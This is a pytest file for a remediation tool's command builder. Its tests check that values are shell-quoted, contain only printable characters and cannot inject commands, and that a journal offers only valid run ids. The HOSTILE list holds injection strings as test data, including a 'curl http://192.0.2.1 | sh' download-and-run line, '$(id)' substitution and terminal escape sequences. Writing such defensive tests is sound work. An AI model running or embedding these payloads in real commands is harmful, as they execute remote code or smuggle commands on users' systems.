"""What to type next is made of words; no word becomes a command of its own."""

from __future__ import annotations

import subprocess
from pathlib import Path

import pytest

from remediation.journal import newest, opened
from remediation.model.commands import advice, command, joined, quoted
from tests.entries import enter

HOSTILE = [
    "x; curl http://192.0.2.1 | sh",
    "a  or  curl http://192.0.2.1 | sh",
    "$(id)",
    "`id`",
    "it's",
    "a\nid",
    "a\r\x1b[2Kid",
    "\x1b]52;c;aWQK\x07",
    "\u202eabc\u2066",
    "\x9b2J",
    "back\\slash\nnew",
    "zürich.example.com",
    "",
]


@pytest.mark.parametrize("word", HOSTILE)
def test_every_word_stays_one_word(word: str) -> None:
    """A shell reads back exactly the word, and a terminal gets nothing but letters that it shows."""
    line = str(command("printf", "%s", word))
    assert line.isascii()
    assert line.isprintable()
    assert subprocess.run(["bash", "-c", line], capture_output=True, check=True).stdout == word.encode()


def test_a_word_in_a_sentence_is_quoted_too() -> None:
    """Braces of a value are no places of ours, and a separator in it separates nothing."""
    assert str(advice("repeat with --context {}", "{0} a  or  b")) == "repeat with --context '{0} a  or  b'"
    assert joined((command("a"), advice("see {}", command("b", "c d")))) == "a  or  see b 'c d'"
    assert quoted("plain-1.example.com") == "plain-1.example.com"


def test_only_ids_are_offered(tmp_path: Path) -> None:
    """A journal of somebody else completes no command line with words of theirs."""
    journal = opened(tmp_path / "journal.db")
    for run in ("20260102-030405-ab12cd34", "x; id", "a\nb", "-rf", "a" * 64):
        enter(journal, run, "run.created", {"runbook": "ip-masq-agent"})
    journal.close()
    assert newest(tmp_path / "journal.db") == [("20260102-030405-ab12cd34", "ip-masq-agent")]
